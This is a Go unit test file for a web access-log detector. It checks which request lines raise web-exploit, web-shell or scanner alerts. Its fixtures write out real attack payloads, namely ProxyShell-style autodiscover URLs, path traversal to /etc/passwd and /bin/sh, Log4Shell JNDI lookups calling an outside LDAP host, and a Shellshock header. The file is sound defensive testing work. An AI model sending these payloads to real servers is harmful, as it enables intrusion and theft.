//go:build !windows

package detect

import (
	"strings"
	"testing"

	"spor/timeline"
)

// request is the event of a line of an access log.
func request(fields string) *timeline.Event {
	e := event(logged, strings.Split(fields, "|")...)
	e.Type = webAccess
	return e
}

func TestWebRules(t *testing.T) {
	for _, tt := range []struct{ fields, want string }{
		{"url=/index.html|http_response_code=200", ""},
		{"url=/autodiscover/autodiscover.json?@evil.is/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.is|http_response_code=302", "low web-exploit"},
		{"url=/autodiscover/autodiscover.json?a=@x/PowerShell/|http_response_code=200", "high web-exploit"},
		{"url=/autodiscover/autodiscover.json?Email=ann@example.is|http_response_code=200", ""},
		{"url=/api/v1/totp/user-backup-code/..%2F../system|http_response_code=200", "high web-exploit"},
		{"url=/dana-na/%2E%2E/dana/html5acc/guacamole/%2E%2E/%2E%2E/etc/passwd?/dana/html5acc/guacamole/|http_response_code=200", "high web-exploit"},
		{"url=/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession|http_response_code=404", "low web-exploit"},
		{"url=/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh|http_response_code=200", "high web-exploit"},
		{"url=/x?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd|http_response_code=404", "low web-exploit"},
		{"url=/docs/etc/passwd-manual.html|http_response_code=200", ""},
		{"url=/a/../b.css|http_response_code=200", ""},
		{"url=/|http_response_code=200|http_request_user_agent=${jndi:ldap://203.0.113.9/a}", "medium web-exploit"},
		{"url=/?x=%24%7B%24%7Blower:j%7Dndi:ldap://x%7D|http_response_code=404", "medium web-exploit"},
		{"url=/|http_response_code=200|http_request_referer=() { :; }; /bin/id", "medium web-exploit"},
		{"url=/?price=$5|http_response_code=200", ""},
		{"url=/wp-content/uploads/2026/x.php?a=b|http_request_method=POST|http_response_code=200", "high web-shell-request"},
		{"url=/aspnet_client/system_web/a.ASPX|http_request_method=POST|http_response_code=200", "high web-shell-request"},
		{"url=/wp-content/uploads/2026/x.php|http_request_method=POST|http_response_code=404", ""},
		{"url=/wp-content/uploads/2026/x.php|http_request_method=GET|http_response_code=200", ""},
		{"url=/uploads/upload.php|http_request_method=POST|http_response_code=200", ""},
		{"url=/wp-content/uploads/2026/x.jpg|http_request_method=POST|http_response_code=200", ""},
		{"url=/login.php|http_request_method=POST|http_response_code=200", ""},
		{"url=/|http_request_user_agent=Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)", "informational web-scanner"},
		{"url=/|http_request_user_agent=Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/)", "informational web-scanner"},
		{"url=/|http_request_user_agent=Mozilla/5.0 (X11; Linux) Firefox/130.0", ""},
		{"url=/|http_request_user_agent=curl/8.0", ""},
	} {
		d := &Detector{}
		d.Event(request(tt.fields))
		d.Event(request(tt.fields)) // said once
		want := tt.want
		if strings.HasSuffix(want, "web-shell-request") {
			want += ", " + want
		}
		if got := names(d); got != want {
			t.Errorf("%s: got %q, want %q", tt.fields, got, want)
		}
	}
}

// TestOtherLogs asks that what another kind of log says of a URL is no request.
func TestOtherLogs(t *testing.T) {
	d := &Detector{}
	d.Event(event(logged, "url=/autodiscover/autodiscover.json?a=@x/powershell/", "http_response_code=200", "http_request_user_agent=nikto"))
	if got := names(d); got != "" {
		t.Error(got)
	}
}

func FuzzPlain(f *testing.F) {
	f.Add("/%2e%2e/%252E%zz%")
	f.Fuzz(func(t *testing.T, url string) {
		b := plain(nil, url)
		if len(b) > min(len(url), maxURL) {
			t.Fatalf("%q grew to %q", url, b)
		}
		attack(b)
	})
}

func BenchmarkWebRules(b *testing.B) {
	e := request("url=/shop/products/view?id=4711&lang=is|http_response_code=200|http_request_method=GET|ip_address=192.0.2.7|http_request_user_agent=Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36|http_request_referer=https://shop.example.is/")
	d := &Detector{}
	for b.Loop() {
		d.Event(e)
	}
}
